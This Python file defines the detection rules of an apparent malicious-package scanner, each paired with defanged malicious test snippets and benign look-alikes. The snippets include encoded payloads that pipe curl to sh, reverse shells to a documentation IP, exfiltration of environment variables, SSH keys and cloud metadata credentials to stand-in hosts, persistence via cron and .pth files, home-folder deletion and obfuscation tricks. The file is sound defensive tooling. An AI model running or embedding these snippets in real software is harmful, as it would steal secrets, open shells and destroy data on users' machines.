"""Every rule of the Python analyser, as data, each with malicious and benign examples.

Like Fixit rules, each rule carries ``INVALID`` examples (defanged malicious shapes that must
fire it) and ``VALID`` ones (benign look-alikes that must not); ``tests/test_python_rules.py``
runs them all by building a real wheel or sdist around each example. Severity and confidence
depend on the hit: ``strong`` hits (direct data flow, literal blob, non-build command...) use
the ``strong`` pair; ``by_context`` overrides both for a context; code in function bodies that
nothing at module level calls (``runtime``) drops ``runtime_drop`` severity steps.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ...model import Confidence, Context, Severity

C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW
CH, CM, CL = Confidence.HIGH, Confidence.MEDIUM, Confidence.LOW
INSTALL, STARTUP, IMPORT = Context.INSTALL, Context.STARTUP, Context.IMPORT


@dataclass(frozen=True)
class Example:
    """Code placed at ``path`` inside an artifact (``setup.py`` -> sdist, else a wheel)."""

    code: str
    path: str = "pkg/__init__.py"
    extra: tuple[tuple[str, str], ...] = ()


@dataclass(frozen=True)
class Rule:
    id: str
    category: str
    severity: Severity
    confidence: Confidence
    message: str
    strong: tuple[Severity, Confidence] | None = None
    by_context: dict = field(default_factory=dict)
    runtime_drop: int = 1
    quiet_at_runtime: bool = False  # ubiquitous in benign function bodies (codegen, daemons)
    threats: tuple[int, ...] = ()  # THREATS.md technique rows it covers
    invalid: tuple[Example, ...] = ()
    valid: tuple[Example, ...] = ()


def _x(code: str, path: str = "pkg/__init__.py", *extra: tuple[str, str]) -> Example:
    return Example(code, path, tuple(extra))


B64_HELLO = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gnKQ=="
# zlib(base64) of: import os; os.system('curl http://example.invalid/x | sh')
ZB64 = "eJzLzC3ILypRyC8u1isuKcrMS9fILEnNVVBPLirN0cjNUdXXz0gtKsrRzyxOzkzRy8xLSVXIyM9RBwAAvxcR"

# The same, compressed, base64-encoded and reversed (the BlankOBF layer shape).
ZB64_REVERSED = ("==guUMXdA0UdMIehaUoC9TBzcSss8ycvUxpgcTsiU3ffrIgkSyYhcIq0kXfDcRtkirs49KmB2+Cy"
                 "RpyLI3CzLzJe")
# An atbash-style substitution (letters mirrored in string.ascii_letters) of
# "import socket; s = socket.create_connection(('203.0.113.9', 4444))".
ATBASH = "RNKLIG HLXPVG; H = HLXPVG.XIVZGV_XLMMVXGRLM(('203.0.113.9', 4444))"

RULES: tuple[Rule, ...] = (
    Rule("python.exec.decoded-payload", "execution", H, CM,
         "code is decoded from an encoded form and executed: the classic hidden payload",
         strong=(C, CH), threats=(3,),
         invalid=(_x(f"import base64\nexec(base64.b64decode('{B64_HELLO}'))\n"),
                  _x(f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{ZB64}')))\n"),
                  _x(f"B = '{B64_HELLO}'\nimport base64 as b\ne = exec\ne(b.b64decode(B))\n"),
                  _x(f"__import__('builtins').exec(__import__('base64').b64decode("
                     f"'{B64_HELLO}'[::-1][::-1]))\n"),
                  _x("import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")', "
                     "'rot13'))\n"),
                  # A BlankOBF-style wrapper: every layer goes through one lambda.
                  _x(f"_ = lambda __ : __import__('zlib').decompress(__import__('base64')."
                     f"b64decode(__[::-1]));exec((_)(b'{ZB64_REVERSED}'))\n", "setup.py"),
                  # Repeating-key XOR over a base64 blob, joined back into source.
                  _x("import base64, itertools\nexec(''.join(chr(c ^ k) for c, k in zip("
                     "base64.b64decode('Al4JBEENS1wKUBMWGB0KEkANDl5RTFodTBo='), "
                     "itertools.cycle(b'k3y'))))\n"),
                  # A helper function that decodes, then exec of its result.
                  _x(f"import base64\ndef unpack(s):\n    raw = base64.b64decode(s)\n"
                     f"    return raw.decode('utf-8')\nexec(unpack('{B64_HELLO}'))\n")),
         valid=(_x("import base64\nICON = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAE=')\n"),
                _x("import sys, base64, zlib, pickle\n"
                   "def thunk():\n    return pickle.loads(zlib.decompress(base64.b64decode("
                   "sys.argv[1])))\n"))),
    Rule("python.exec.remote-code", "execution", C, CH,
         "code downloaded from the network is executed", threats=(5,),
         invalid=(_x("from urllib.request import urlopen\n"
                     "exec(urlopen('https://example.invalid/p').read())\n"),
                  _x("import requests\nexec(requests.get('https://example.invalid/p').text)\n")),
         valid=(_x("import requests\ndef fetch():\n    return requests.get('https://e.invalid')"
                   ".json()\n"),)),
    Rule("python.exec.dynamic", "execution", M, CL,
         "exec/eval of a value the analyser cannot see, at module level", threats=(3,),
         quiet_at_runtime=True,
         invalid=(_x("import os\nexec(os.environ.get('PAYLOAD', ''))\n"),),
         valid=(_x("exec(open('pkg/_version.py').read())\n", "setup.py"),
                _x("import sys\nexec(eval(sys.stdin.readline()))\n", "execnet/bootstrap.py"),
                _x("def make(src, ns):\n    exec(src, ns)\n    return ns\n"))),
    Rule("python.exec.literal-code", "execution", L, CM,
         "a string literal is executed as code (its content is analysed too)", threats=(3,),
         quiet_at_runtime=True,
         invalid=(_x("exec('import os; x = 1')\n"),
                  _x("import string\na = string.ascii_letters\nb = a[::-1]\n"
                     f"exec(''.join([b[a.index(c)] if c in b else c for c in \"{ATBASH}\"]))\n")),
         valid=(_x("def f():\n    return eval\n"),)),
    Rule("python.obfuscation.hidden-builtin", "obfuscation", H, CM,
         "exec/eval/system reached through __import__, getattr or __builtins__ lookups, a "
         "way to hide the call from readers and scanners", strong=(H, CM), threats=(3,),
         invalid=(_x("getattr(__builtins__, 'ex' + 'ec')(compile('x=1', 'f', 'exec'))\n"),
                  _x("__import__('o' + 's').system('id')\n")),
         valid=(_x("import six\nexec_ = getattr(six.moves.builtins, 'exec')\n"),)),
    Rule("python.obfuscation.whitespace-padding", "obfuscation", H, CH,
         "code pushed far to the right behind a run of whitespace, so that editors do not "
         "show it (W4SP stealer trick)", threats=(3,),
         invalid=(_x("print('setup')" + " " * 300 + ";__import__('os').system('id')\n"),
                  _x("x = 1" + " " * 200 + ",exec(compile('y = 2', 'f', 'exec'))\n")),
         valid=(_x("x = 1\n" + " " * 20 + "\n"),
                _x('class Env:\n    """Parameters.\n\n    | name | type |' + " " * 180
                   + '| default |\n    | `xml_file` | **str** |' + " " * 180
                   + '| `"ant.xml"` |\n    """\n'))),
    Rule("python.obfuscation.char-arithmetic", "obfuscation", H, CH,
         "identifiers and strings assembled from characters of builtin reprs and shift "
         "arithmetic (oct.__str__()[-3 << 0] ...): machine obfuscation with no benign use",
         threats=(3,),
         invalid=(_x("f = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2]"
                     " + copyright.__str__()[4 << 0])\ns = oct.__str__()[1] + hex.__str__()[2]"
                     "\n", "setup.py"),),
         valid=(_x("s = str(oct)\n"),)),
    Rule("python.obfuscation.unicode-identifiers", "obfuscation", H, CH,
         "identifiers written in look-alike Unicode letters (𝗿𝗲𝙦𝘂𝙚𝘀𝘁𝘀 is requests to Python) "
         "to slip past text search", threats=(3,),
         invalid=(_x("import os\n\U0001d428\U0001d42c.system('id')\n"),),
         valid=(_x("NAME = 'café'\n"),
                _x("WORDS = ['ｓｐｈｉｎｘ', '𝗯𝗼𝗹𝗱']  # full-width text is data\n"))),
    Rule("python.obfuscation.commercial", "obfuscation", M, CH,
         "a commercial or public obfuscator's runtime (PyArmor, pyobfuscate, BlankOBF): the "
         "real code cannot be reviewed", strong=(H, CH), threats=(9,),
         invalid=(_x("from pytransform import pyarmor_runtime\npyarmor_runtime()\n"
                     "__pyarmor__(__name__, __file__, b'PYARMOR')\n"),),
         valid=(_x("# an obfuscator is not used here\nx = 'armor'\n"),)),
    Rule("python.obfuscation.encoded-code", "obfuscation", M, CM,
         "a literal decodes to Python source: code shipped in encoded form", threats=(3,),
         invalid=(_x(f"import base64\nPAYLOAD = base64.b64decode('{B64_HELLO}')\n"),),
         valid=(_x("DESCRIPTOR = b'\\n\\x0bexample.proto\\x12\\x07example\"\\x1a\\n"
                   "\\x05Hello\\x12\\x11\\n\\x04name\\x18\\x01 \\x01(\\t'\n",
                   "pkg/example_pb2.py"),)),
    Rule("python.decode.deserialize-blob", "obfuscation", H, CM,
         "marshal/pickle on an embedded or downloaded blob: code objects hidden from review",
         strong=(H, CH), threats=(3, 8),
         invalid=(_x("import marshal, base64\nexec(marshal.loads(base64.b64decode('YQ==')))\n"),
                  _x("import marshal\ncode = marshal.loads(open('x.pyc', 'rb').read()[16:])\n")),
         valid=(_x("import pickle\ndef load(path):\n    with open(path, 'rb') as f:\n"
                   "        return pickle.load(f)\n"),)),
    Rule("python.process.spawn", "process", L, CH,
         "a process is started when the package installs or is imported",
         strong=(M, CH), by_context={STARTUP: (H, CM)}, threats=(2, 4),
         invalid=(_x("import subprocess\nsubprocess.Popen(['/tmp/.x/agent'])\n"),
                  _x("import os\nos.system('whoami')\n", "setup.py")),
         valid=(_x("import subprocess\nfrom setuptools.command.build_ext import build_ext\n"
                   "class CMakeBuild(build_ext):\n    def run(self):\n"
                   "        subprocess.check_call(['cmake', '--build', '.'])\n", "setup.py"),
                _x("import subprocess\ndef version():\n    return subprocess.check_output("
                   "['git', 'describe'])\n"))),
    Rule("python.process.shell-download", "network", H, CH,
         "a command that downloads or fetches remote content (curl, wget, PowerShell web "
         "requests) is run", threats=(4, 5),
         invalid=(_x("import os\nos.system('curl -s https://example.invalid/a.sh | sh')\n",
                     "setup.py"),
                  _x("import subprocess\nsubprocess.call('powershell -c Invoke-WebRequest "
                     "https://example.invalid/a.exe -OutFile a.exe', shell=True)\n",
                     "setup.py"),
                  # Commands kept encoded and decoded by a helper right before they run.
                  _x("import base64, subprocess\ndef d(s):\n    raw = base64.b64decode(s)\n"
                     "    return raw.decode('utf-8')\ndef fetch(name):\n"
                     "    subprocess.run(str(d('Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL2EgLW8g"
                     "L3RtcC9hICYmIGNobW9kICt4IC90bXAvYQ==')).format(name), shell=True)\n")),
         valid=(_x("import subprocess\nsubprocess.check_call(['cmake', '..'])\n", "setup.py"),)),
    Rule("python.network.file-fetch", "network", M, CH,
         "a command fetches a source archive or data file (wget/curl of a .tar.gz, .zip, "
         ".json ...) and runs nothing else", threats=(4, 5),
         invalid=(_x("import os\nos.system('wget https://example.invalid/lib-1.0.tar.gz')\n",
                     "setup.py"),),
         valid=(_x("import os\nos.system('wget https://example.invalid/a.sh')\n", "setup.py"),
                _x("import os\nos.system('tar xf lib-1.0.tar.gz')\n", "setup.py"))),
    Rule("python.process.decoded-command", "obfuscation", H, CH,
         "a command is decoded from an encoded form (base64, hex, a decoding helper) right "
         "before it runs: nobody reading the code sees what it runs", threats=(3, 4),
         invalid=(_x("import os, base64\n"
                     "os.system(base64.b64decode('ZWNobyBoaSA+IC90bXAveA==').decode())\n",
                     "setup.py"),),
         valid=(_x("import os\nos.system('echo hi')\n", "setup.py"),)),
    Rule("python.process.detached", "evasion", M, CM,
         "a process is started detached or with its output silenced, so the user never sees "
         "it", strong=(H, CM), threats=(2,), quiet_at_runtime=True,
         invalid=(_x("import subprocess\nsubprocess.Popen(['/tmp/x'], start_new_session=True, "
                     "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"),),
         valid=(_x("import subprocess\ndef kernel():\n    return subprocess.Popen(['ipykernel']"
                   ", start_new_session=True)\n"),)),
    Rule("python.process.python-c", "execution", M, CM,
         "a new interpreter is started with code on its command line (sys.executable -c); "
         "the code is analysed too", strong=(H, CH), threats=(1, 2), quiet_at_runtime=True,
         invalid=(_x("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                     "'import os; print(1)'])\n"),
                  _x("import os\nos.system('python3 -c \"import os; print(1)\" > /tmp/o')\n",
                     "setup.py")),
         valid=(_x("import subprocess, sys\ndef probe():\n    return subprocess.run("
                   "[sys.executable, '-c', 'import sys; print(sys.prefix)'])\n"),)),
    Rule("python.process.daemon-thread", "process", L, CM,
         "a daemon thread is started (work that continues in the background)", threats=(2,),
         invalid=(_x("import threading\ndef beacon():\n    pass\n"
                     "threading.Thread(target=beacon, daemon=True).start()\n"),),
         valid=(_x("import threading\nlock = threading.Lock()\n"),)),
    Rule("python.process.reverse-shell", "execution", C, CM,
         "a shell is wired to a network connection (reverse shell)", strong=(C, CH),
         threats=(14,),
         invalid=(_x("import socket, os, pty\ns = socket.socket()\n"
                     "s.connect(('203.0.113.9', 4444))\nos.dup2(s.fileno(), 0)\n"
                     "os.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n"),
                  _x("import os\nos.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')\n")),
         valid=(_x("import socket\ndef ping(h):\n    s = socket.create_connection((h, 80))\n"
                   "    s.close()\n"),)),
    Rule("python.network.http", "network", L, CM,
         "an HTTP/FTP/SMTP connection is made", runtime_drop=0, quiet_at_runtime=True,
         by_context={INSTALL: (H, CM), STARTUP: (H, CM), IMPORT: (M, CM)}, threats=(4, 12),
         invalid=(_x("import requests\nrequests.get('https://example.invalid/ping')\n",
                     "setup.py"),),
         valid=(_x("import requests\ndef get(url):\n    return requests.get(url)\n"),)),
    Rule("python.network.socket", "network", L, CM, "a raw socket is opened", runtime_drop=0,
         quiet_at_runtime=True,
         by_context={INSTALL: (H, CM), STARTUP: (H, CM), IMPORT: (M, CM)}, threats=(14,),
         invalid=(_x("import socket\ns = socket.socket()\ns.connect(('203.0.113.9', 9))\n",
                     "setup.py"),),
         valid=(_x("import socket\ndef serve():\n    return socket.socket()\n"),)),
    Rule("python.network.dns", "exfiltration", M, CM,
         "DNS lookups of computed names or raw UDP to port 53: a covert channel for data",
         strong=(H, CH), threats=(11,),
         invalid=(_x("import socket, os\nsocket.gethostbyname(os.getlogin() + "
                     "'.x.example.invalid')\n"),
                  _x("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                     "s.sendto(b'q', ('203.0.113.9', 53))\n")),
         valid=(_x("import socket\nLOCAL = socket.gethostbyname('localhost')\n"),)),
    Rule("python.network.messenger", "exfiltration", H, CM,
         "a Discord/Telegram/Slack bot or webhook endpoint: the usual stealer drop box "
         "(an embedded bot token or webhook id, or a send call in the URL, makes it strong; a "
         "bare API base URL, as bot libraries ship it, is only a lead)",
         strong=(H, CH), threats=(10,), runtime_drop=0,
         invalid=(_x("URL = 'https://discord.com/api/webhooks/1234567890/abc'\n"),
                  _x("BOT = 'https://api.telegram.org/bot1234567:AAbbCCddEEffGGhhIIjjKK/getMe'\n"),
                  _x("TOKEN = '1234567:AAbbCCddEEffGGhhIIjjKK'\n"
                     "URL = f'https://api.telegram.org/bot{TOKEN}/getUpdates'\n"),
                  _x("import requests\ndef send(t, text):\n    requests.post("
                     "f'https://api.telegram.org/bot{t}/sendDocument', data=text)\n")),
         valid=(_x("DOCS = 'https://discord.com/invite/example'\n"),
                _x("LINK = 'https://t.me/example_channel'\n"))),
    Rule("python.network.request-catcher", "exfiltration", M, CM,
         "a request-catcher or tunnel host (webhook.site, pipedream, oastify, ngrok...) used "
         "by dependency-confusion probes and exfiltration", strong=(H, CH), runtime_drop=0,
         threats=(12, 16),
         invalid=(_x("H = 'https://abc.m.pipedream.net'\n"),),
         valid=(_x("H = 'https://pypi.org/simple/'\n"),)),
    Rule("python.network.catcher-beacon", "exfiltration", C, CH,
         "a network call goes to a request catcher, tunnel, messenger bot, paste host or bare "
         "IP address: where probes report and stolen data or payloads are exchanged",
         threats=(10, 12, 16),
         invalid=(_x("import requests\nrequests.get('https://abc123.m.pipedream.net/probe')\n"),
                  _x("import urllib.request\nURL = 'https://pastebin.com/raw/abcd'\n"
                     "code = urllib.request.urlopen(URL).read()\n"),
                  _x("import socket, os\nsocket.gethostbyname(os.getlogin() + "
                     "'.abc.oast.fun')\n")),
         valid=(_x("import requests\nDOCS = 'https://webhook.site/'\n"
                   "def ping():\n    return requests.get('https://pypi.org/simple/')\n"),)),
    Rule("python.network.hidden-endpoint", "exfiltration", H, CH,
         "a URL hidden in an encoded literal (base64): packages name their endpoints in the "
         "clear, droppers and stealers hide where they send data or fetch payloads",
         threats=(3, 12), runtime_drop=0,
         invalid=(_x("import base64, requests\nHOOK = 'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvdXBsb2Fk'\n"
                     "def send(data):\n    requests.post(base64.b64decode(HOOK).decode(), "
                     "data=data)\n"),),
         valid=(_x("ICON = 'data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAw"
                   "MC9zdmciLz4='\n"),
                _x("NOTE = 'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYw== is the docs URL in base64'\n"))),
    Rule("python.network.file-host", "network", M, CM,
         "a paste or anonymous file host (pastebin raw, transfer.sh, Discord attachments) "
         "used to stage payloads", threats=(5,),
         invalid=(_x("U = 'https://pastebin.com/raw/abcd'\n"),),
         valid=(_x("U = 'https://github.com/org/repo'\n"),)),
    Rule("python.network.raw-ip", "network", M, CM,
         "a URL with a hard-coded public IP address", threats=(5, 12),
         invalid=(_x("C2 = 'http://203.0.113.7:8080/x'\n"),),
         valid=(_x("LOCAL = 'http://127.0.0.1:8000/'\n"),)),
    Rule("python.secrets.environment", "secrets", L, CM,
         "the whole environment (API keys, tokens) is collected", threats=(12,),
         invalid=(_x("import os, json, requests\nblob = json.dumps(dict(os.environ))\n"
                     "requests.post('https://example.invalid/c', data=blob)\n"),),
         valid=(_x("import os, subprocess\ndef build():\n    env = os.environ.copy()\n"
                   "    subprocess.check_call(['make'], env=env)\n"),)),
    Rule("python.secrets.credential-store", "secrets", M, CM,
         "a credential store is named (ssh keys, cloud configs, browser profiles, wallets, "
         "Discord tokens)", strong=(H, CM), threats=(12,), quiet_at_runtime=True,
         invalid=(_x("P = '~/.config/discord/Local Storage/leveldb'\n"),
                  _x("import os\nK = os.path.expanduser('~/.ssh/id_rsa')\n"),
                  _x("from pathlib import Path\nK = Path.home() / '.aws' / 'credentials'\n")),
         valid=(_x("def creds():\n    return '~/.aws/credentials'\n"),)),
    Rule("python.fingerprint.host-info", "fingerprinting", L, CM,
         "host identity is collected (host name, user, platform, working directory)",
         threats=(16,),
         invalid=(_x("import socket\nHOST = socket.gethostname()\n"),),
         valid=(_x("import sys\nPY = sys.version_info\n"),)),
    Rule("python.flow.secret-to-network", "exfiltration", H, CM,
         "secrets (environment, credential files) flow to a network call", strong=(C, CH),
         threats=(12,),
         invalid=(_x("import os, requests\n"
                     "requests.post('https://example.invalid/c', json=dict(os.environ))\n"),
                  _x("import os, requests\n"
                     "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                     "requests.post('https://example.invalid/c', data=key)\n"),
                  _x("import os, requests\n"
                     "requests.post('http://203.0.113.5/k', data=os.environ['EXAMPLE_TOKEN'])\n"),
                  _x("import requests\nMETA = 'http://169.254.169.254/latest/meta-data/iam/'\n"
                     "creds = requests.get(META).text\n"
                     "requests.post('https://collector.example.invalid/', data=creds)\n")),
         valid=(_x("import os, requests\ndef call(url):\n"
                   "    return requests.get(url, headers={'User-Agent': 'x'})\n"),
                _x("import os, requests\ndef ask(q):\n    key = os.environ['EXAMPLE_API_KEY']\n"
                   "    return requests.post('https://api.example.invalid/v1', json={'q': q},\n"
                   "                         headers={'Authorization': 'Bearer ' + key})\n"),
                _x("import urllib3\nTOKEN_URL = 'http://169.254.169.254/latest/api/token'\n"
                   "DOC_URL = 'http://169.254.169.254/latest/dynamic/instance-identity/document'\n"
                   "http = urllib3.PoolManager()\ndef identity():\n"
                   "    token = http.request('PUT', TOKEN_URL).data.decode()\n"
                   "    return http.request('GET', DOC_URL, headers={'X-Token': token})\n"))),
    Rule("python.flow.fingerprint-to-network", "exfiltration", M, CM,
         "host identity (host name, user, cwd) is sent over the network: a "
         "dependency-confusion beacon", strong=(H, CH), threats=(16,),
         invalid=(_x("import socket, getpass, requests\n"
                     "requests.get('https://example.invalid/b', params={'h': "
                     "socket.gethostname(), 'u': getpass.getuser()})\n", "setup.py"),
                  _x("import os, urllib.request\n"
                     "urllib.request.urlopen('https://example.invalid/?d=' + os.getcwd())\n")),
         valid=(_x("import platform, requests\ndef ua():\n    return requests.get("
                   "'https://e.invalid', headers={'UA': platform.system()})\n"),)),
    Rule("python.flow.download-execute", "execution", H, CM,
         "content is downloaded, written to disk and run", strong=(C, CH), threats=(5,),
         runtime_drop=0,
         invalid=(_x("import os, urllib.request, subprocess\n"
                     "urllib.request.urlretrieve('https://example.invalid/m', '/tmp/m')\n"
                     "os.chmod('/tmp/m', 0o755)\nsubprocess.Popen(['/tmp/m'])\n"),),
         valid=(_x("import urllib.request\ndef fetch(u, p):\n"
                   "    urllib.request.urlretrieve(u, p)\n"),)),
    Rule("python.dropper.program-write", "dropper", L, CM,
         "a program or script (.exe, .js, .bat, .ps1...) is written into the user's profile "
         "or a temp folder; at install time that is a dropper",
         by_context={INSTALL: (H, CM), STARTUP: (H, CM)}, threats=(4, 5),
         invalid=(_x("import os\nfrom setuptools import setup\nbase = os.getenv('APPDATA')\n"
                     "with open(base + '\\\\Ext\\\\background.js', 'w') as f:\n"
                     "    f.write('/* defanged */')\nsetup(name='x')\n", "setup.py"),),
         valid=(_x("from setuptools import setup\nwith open('build/gen/version.js', 'w') as f:\n"
                   "    f.write('export const v = 1')\nsetup(name='x')\n", "setup.py"),)),
    Rule("python.dropper.chmod-exec", "process", L, CM, "a file is made executable",
         threats=(5,),
         invalid=(_x("import os\nos.chmod('/tmp/agent', 0o755)\n"),),
         valid=(_x("import os\nos.chmod('/tmp/data.txt', 0o644)\n"),)),
    Rule("python.persistence.autostart", "persistence", M, CL,
         "an autostart location is named or written (systemd user unit, cron, Run key, "
         "Startup folder, shell rc)", strong=(H, CM), threats=(13,),
         invalid=(_x("import os\nos.system('systemctl --user enable sysmon.service')\n"),
                  _x("p = '/home/u/.config/systemd/user/sysmon.service'\n"
                     "open(p, 'w').write('[Service]')\n"),
                  _x("import os\nos.system('(crontab -l; echo \"@reboot /tmp/x\") | crontab -')"
                     "\n")),
         valid=(_x("import os\nHOME = os.path.expanduser('~')\n"),)),
    Rule("python.persistence.pth-write", "persistence", M, CM,
         "a .pth file is written: code that will run at every interpreter start",
         threats=(1, 13),
         invalid=(_x("import site, os\np = os.path.join(site.getsitepackages()[0], 'x.pth')\n"
                     "open(p, 'w').write('import x')\n"),),
         valid=(_x("def write(path):\n    open(path, 'w').write('data')\n"),)),
    Rule("python.evasion.vm-check", "evasion", M, CM,
         "checks for virtual machines, sandboxes or analysis tools", threats=(2,),
         invalid=(_x("BAD = ['vboxservice.exe', 'vmtoolsd.exe', 'wireshark.exe']\n"),),
         valid=(_x("NAMES = ['service.exe']\n"),)),
    Rule("python.evasion.silent-network", "evasion", M, CM,
         "a network call wrapped in an except that silently swallows every error",
         threats=(2,),
         invalid=(_x("import requests\ntry:\n    requests.get('https://example.invalid')\n"
                     "except:\n    pass\n"),),
         valid=(_x("import requests\ntry:\n    requests.get('https://example.invalid')\n"
                   "except requests.RequestException as e:\n    print(e)\n"),)),
    Rule("python.evasion.sleep", "evasion", L, CL, "a long sleep before acting",
         threats=(2,),
         invalid=(_x("import time\ntime.sleep(600)\n"),),
         valid=(_x("import time\ntime.sleep(0.1)\n"),)),
    Rule("python.surveillance.capture", "surveillance", M, CM,
         "clipboard, keystrokes, screen or webcam are captured", threats=(12,),
         invalid=(_x("from PIL import ImageGrab\nImageGrab.grab().save('/tmp/s.png')\n"),
                  _x("import pyperclip\nclip = pyperclip.paste()\n")),
         valid=(_x("import pyperclip\ndef copy(text):\n    pyperclip.copy(text)\n"),)),
    Rule("python.destruction.delete", "destruction", H, CM,
         "a home folder or system root is deleted", strong=(H, CH), threats=(13,),
         invalid=(_x("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n"),
                  _x("import os\nos.system('rm -rf ~/ *')\n")),
         valid=(_x("import shutil\ndef clean(tmp):\n    shutil.rmtree(tmp)\n"),)),
    Rule("python.mining.miner", "execution", H, CH,
         "crypto-miner binaries or mining pools are named", threats=(5,),
         invalid=(_x("POOL = 'stratum+tcp://pool.example.invalid:3333'\n"),),
         valid=(_x("NAME = 'stratum'\n"),)),
    Rule("python.stego.media-payload", "obfuscation", H, CH,
         "bytes pulled out of an audio/image file are executed (steganography)",
         threats=(7,),
         invalid=(_x("import wave\nw = wave.open('pkg/a.wav')\nexec(w.readframes(100))\n"),),
         valid=(_x("import wave\nw = wave.open('a.wav')\nframes = w.readframes(100)\n"),)),
    Rule("python.startup.pth-exec", "execution", C, CH,
         "a .pth line that site.py executes at every interpreter start spawns, decodes, "
         "executes or reaches the network", threats=(1,),
         invalid=(_x("import subprocess, sys; subprocess.Popen([sys.executable, '-c', "
                     "'import os'])\n", "evil.pth"),
                  _x(f"import base64; exec(base64.b64decode('{B64_HELLO}'))\n", "evil.pth")),
         valid=(_x("import _distutils_hack; _distutils_hack.add_shim()\n",
                   "distutils-precedence.pth", ("_distutils_hack/__init__.py", "x = 1\n")),
                _x("import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n"
                   "  from pytest_cov.embed import init\\n  init()\\n except Exception:\\n"
                   "  pass\\n')\n", "pytest-cov.pth",
                   ("pytest_cov/embed.py", "def init():\n    return None\n")),
                _x("../lib/site\nextra\n", "paths.pth"))),
    Rule("python.startup.pth-code", "execution", M, CL,
         "a .pth line runs code at every interpreter start that does not just import a "
         "module of this artifact", threats=(1,),
         invalid=(_x("import notshipped_helper\n", "hook.pth"),),
         valid=(_x("import mypkg_shim\n", "shim.pth", ("mypkg_shim.py", "X = 1\n")),)),
    Rule("python.startup.pth-large", "obfuscation", L, CM,
         "an unusually large executable .pth file", threats=(1,),
         invalid=(_x("import os; x = '" + "a" * 5000 + "'\n", "big.pth"),),
         valid=(_x("src\n", "small.pth"),)),
    Rule("python.install.hook", "install-hook", L, CH,
         "setup.py overrides an install command or registers atexit: code that runs when the "
         "package is installed", threats=(4,),
         invalid=(_x("from setuptools import setup\nfrom setuptools.command.install import "
                     "install\nclass Post(install):\n    def run(self):\n"
                     "        install.run(self)\nsetup(cmdclass={'install': Post})\n",
                     "setup.py"),),
         valid=(_x("from setuptools import setup\nsetup(name='x')\n", "setup.py"),)),
    Rule("python.import.test-module", "analysis", L, CH,
         "a module named like a test (tests/, test_*.py, conftest.py) is imported by the "
         "package's own code at module level (it runs at import) or named by an entry point "
         "(a command runs it), so its code is judged as package code, not as test data",
         invalid=(_x("from . import test_helpers\n", "pkg/__init__.py",
                     ("pkg/test_helpers.py", "VALUE = 1\n")),
                  _x("import pkg.tests.fixtures as f\n", "pkg/core.py",
                     ("pkg/tests/fixtures.py", "VALUE = 1\n"))),
         valid=(_x("from pkg import core\n", "pkg/tests/test_core.py",
                   ("pkg/core.py", "VALUE = 1\n")),
                _x("def test():\n    from . import tests\n    tests.run()\n", "pkg/__init__.py",
                   ("pkg/tests/__init__.py", "def run():\n    pass\n")),
                # the standard library's textwrap, not the test folder's module of that name
                _x("import textwrap\nfrom pkg import util\n", "pkg/__init__.py",
                   ("pkg/tests/textwrap.py", "X = 1\n"), ("pkg/util.py", "Y = 2\n"),
                   ("pkg/tests/util.py", "Z = 3\n")))),
    Rule("python.parse.fallback", "analysis", L, CH,
         "the file is not valid Python 3; it was scanned token by token, with less precision",
         threats=(),
         invalid=(_x("import os\nprint 'hello'\nos.system('id')\n", "setup.py"),),
         valid=(_x("print('hello')\n"),)),
)

BY_ID = {rule.id: rule for rule in RULES}
